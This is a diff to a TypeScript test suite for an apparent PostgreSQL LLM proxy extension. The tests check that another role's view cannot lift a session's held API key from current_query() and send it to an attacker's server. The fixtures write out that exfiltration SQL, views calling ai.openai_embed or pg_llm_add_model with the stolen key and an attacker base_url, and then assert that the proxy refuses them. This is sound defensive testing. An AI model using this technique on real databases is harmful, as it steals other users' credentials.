@@ -260,6 +260,8 @@ describe('a secret the session handed the proxy', () => {
   it("written out in the victim's statement is not sent elsewhere by a call copying its reference from current_query()", async () => {
     const { direct, victim, attacker } = await sharedSchema();
     const stolen = `substring(current_query() from 'held by pg_llm proxy [0-9a-f]{32}')`;
+    // The view is a superuser's, in a schema trust_user may create in: trusted, so that the rules at stake here refuse.
+    await victim.query(`SET pg_llm.trusted_owners = 'trust_user'`);
     await direct.query(`CREATE VIEW shared.docs AS SELECT 'hello'::text AS body
                          WHERE (ai.openai_embed('m', 'x', api_key => ${stolen}, client_config => '{"base_url": "${attacker.baseUrl}"}') IS NULL) IS NOT NULL`);
     await direct.query('GRANT SELECT ON shared.docs TO PUBLIC');
@@ -274,6 +276,33 @@ describe('a secret the session handed the proxy', () => {
     });
     expect(attacker.requests).toEqual([]);
     expect((await direct.query(`SELECT count(*)::int AS n FROM _pg_llm_catalog.pg_llm_models WHERE instance_name = 'stolen'`)).rows).toEqual([{ n: 0 }]);
+  });
+
+  // Review L1: a reference opened in any call of its function, so another role's view copying it from
+  // current_query() (or from the collect pass's table, for a bound key) made calls of its own with the victim's key
+  // to the very server the victim named, and kept their answers.
+  it("written out or bound in the victim's statement opens in no call of a statement that runs another role's code", async () => {
+    const { direct, victim } = await sharedSchema();
+    const stolen = `substring(current_query() from 'held by pg_llm proxy [0-9a-f]{32}')`;
+    const config = `client_config => '{"base_url": "${suite.fake.baseUrl}"}'`;
+    // Past the proxy, which refuses a view computing an api_key from constants.
+    await direct.query(`SET ROLE trust_user; CREATE VIEW shared.docs AS SELECT 'hello'::text AS body
+                         WHERE (ai.openai_embed('m', 'on the victim''s account', api_key => ${stolen}, ${config}) IS NULL) IS NOT NULL;
+                        GRANT SELECT ON shared.docs TO PUBLIC; RESET ROLE`);
+    suite.fake.requests.length = 0;
+    const refused = {
+      code: '42501',
+      message: 'a secret this session handed the proxy opens only in a statement that runs no code of roles the session does not trust, and this statement reaches view shared.docs, owned by trust_user, who may change it between this check and the run',
+      hint: expect.stringContaining("SET pg_llm.trusted_owners = 'trust_user'"),
+    };
+    await expect(victim.query(`SELECT ai.openai_embed('m', body, api_key => '${VICTIM_KEY}', ${config}) FROM shared.docs`)).rejects.toMatchObject(refused);
+    await expect(victim.query(`SELECT ai.openai_embed('m', body, api_key => $1, ${config}) FROM shared.docs`, [VICTIM_KEY])).rejects.toMatchObject(refused);
+    expect(suite.fake.requests).toEqual([]);
+    // A call opening none of the session's secrets, and a statement reaching only code of roles trusted, run.
+    await victim.query(`SELECT ai.openai_embed('m', body, api_key => 'sk-own-view-key-0123456789', ${config}) FROM (SELECT 'mine'::text AS body WHERE random() >= 0) s`);
+    await victim.query(`SET pg_llm.trusted_owners = 'trust_user'`);
+    await victim.query(`SELECT ai.openai_embed('m', body, api_key => '${VICTIM_KEY}', ${config}) FROM shared.docs`);
+    expect(suite.fake.requests.flatMap((request) => request.body.input)).toContain("on the victim's account");
   });
 
   // Review: a reference stood for its key in any setting, so a view copying the session's Anthropic key into
@@ -308,6 +337,8 @@ describe('a secret the session handed the proxy', () => {
     await direct.query(`SET ROLE trust_user; CREATE VIEW shared.docs AS SELECT 'hello'::text AS body
                          WHERE (pg_llm_add_model(false, 'openai', 'borrowed', ${stolen}, '{"base_url": "${suite.fake.baseUrl}", "model_name": "m"}') IS NULL) IS NOT NULL;
                         GRANT SELECT ON shared.docs TO PUBLIC; RESET ROLE`);
+    // Trusted, so that the rule at stake here refuses, not that of statements reaching another role's code.
+    await victim.query(`SET pg_llm.trusted_owners = 'trust_user'`);
     const attempt = victim.query(`SELECT ai.openai_embed('m', body, api_key => '${VICTIM_KEY}', client_config => '{"base_url": "${suite.fake.baseUrl}"}') FROM shared.docs`);
     await expect(attempt).rejects.toMatchObject({ code: '42501', message: 'the api_key argument of pg_llm_add_model is a secret this session wrote out in a call of another function' });
     suite.fake.requests.length = 0;
@@ -333,6 +364,8 @@ describe('a secret the session handed the proxy', () => {
     const header = unique('sk-gateway');
     const password = unique('pw');
     const config = `ai.openai_client_config(base_url => 'http://svc:${password}@127.0.0.1:${new URL(suite.fake.baseUrl).port}/v1', default_headers => '{"x-gateway-key": "${header}"}')`;
+    // Trusted, or its statements would not run at all (held-secret-reach.ts): what it could read is at stake here.
+    await victim.query(`SET pg_llm.trusted_owners = 'trust_user'`);
     await victim.query('BEGIN');
     const { rows } = await victim.query(`SELECT ${config} AS c, n FROM shared.stats`);
     expect(rows[0].c).toEqual({ base_url: expect.stringMatching(/^held by pg_llm proxy /), default_headers: expect.stringMatching(/^held by pg_llm proxy /) });
@@ -386,6 +419,8 @@ describe('a secret the session handed the proxy', () => {
                        ALTER TABLE shared.pub ENABLE ROW LEVEL SECURITY; CREATE POLICY everyone ON shared.pub USING (shared.grab() > 0)`);
     const key = unique('sk-bound');
     const header = unique('x-bound');
+    // Trusted, or its statements would not run at all (held-secret-reach.ts): what it could read is at stake here.
+    await victim.query(`SET pg_llm.trusted_owners = 'trust_user'`);
     suite.fake.requests.length = 0;
     const config = `client_config => '{"base_url": "${suite.fake.baseUrl}"}'`;
     // The view is read once the first row's call is collected; the policy, for each row the calls are collected for.
